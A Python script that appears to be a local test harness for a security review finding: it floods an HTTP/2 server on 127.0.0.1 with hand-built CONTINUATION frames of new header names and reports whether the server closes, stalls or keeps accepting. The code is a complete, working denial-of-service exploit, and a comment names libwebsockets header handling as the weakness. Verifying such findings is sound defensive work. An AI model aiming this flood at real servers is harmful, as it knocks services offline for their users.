#!/usr/bin/env python3
"""A CONTINUATION flood against an HTTP/2 server (sec-review-12a finding 1).

h2flood.py tls PORT SECONDS   HTTP/2 over TLS (ALPN h2), no certificate check
h2flood.py h2c PORT SECONDS   cleartext: an Upgrade: h2c request first

Sends the preface, an empty SETTINGS, then a HEADERS frame without
END_HEADERS, then CONTINUATION frames (each 64 headers of new 200-byte
names) for SECONDS, as fast as the server takes them.  Prints
one line: "closed" when the server closed the connection (or reset it),
"stalled" when it stopped reading (a send blocked for 2 s), "open" when
it was still taking frames at the end; then the count of frames sent.
For h2c, an answer that is not "101 Switching Protocols" to the upgrade
is printed as "refused: STATUS-LINE" and nothing is flooded.
The frames are hand-made on purpose: no HTTP/2 library would send them.
"""
import socket
import ssl
import struct
import sys
import time


def frame(ftype, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid) + payload


def hpack_int(value, prefix, first):
    top = (1 << prefix) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def main():
    mode, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    sid = 1
    if mode == "tls":
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s)
        if s.selected_alpn_protocol() != "h2":
            print("no h2 over TLS")
            return
    else:
        s.sendall(b"GET /api/me HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                  b"Connection: Upgrade, HTTP2-Settings\r\n"
                  b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n"
                  b"\r\n")
        head = b""
        while b"\r\n" not in head:
            got = s.recv(4096)
            if not got:
                break
            head += got
        line = head.split(b"\r\n", 1)[0].decode("latin-1")
        if " 101 " not in line + " ":
            print("refused: " + line)
            return
        sid = 3
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    # :method GET, :scheme http(s), :path /, then literal headers of new
    # names (64 a frame, each a name of 200 bytes): libwebsockets keeps
    # every unknown name in its header space until that is full.
    block = bytes([0x82, 0x87 if mode == "tls" else 0x86, 0x84])
    s.sendall(frame(1, 0, sid, block))
    name = b"x-" + b"a" * 198
    one = b"\x00" + hpack_int(len(name), 7, 0) + name + b"\x01v"
    chunk = frame(9, 0, sid, one * 64)
    s.settimeout(2)
    n, state, end = 0, "open", time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            try:
                s.sendall(chunk)
                n += 1
            except socket.timeout:
                state = "stalled"
                break
            # whatever the server says (a GOAWAY) is read and dropped; an
            # end of stream is the close
            s.setblocking(False)
            try:
                if s.recv(65536) == b"":
                    state = "closed"
                    break
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            finally:
                s.settimeout(2)
    except (ConnectionError, ssl.SSLError, OSError):
        state = "closed"
    print(state, n)


main()
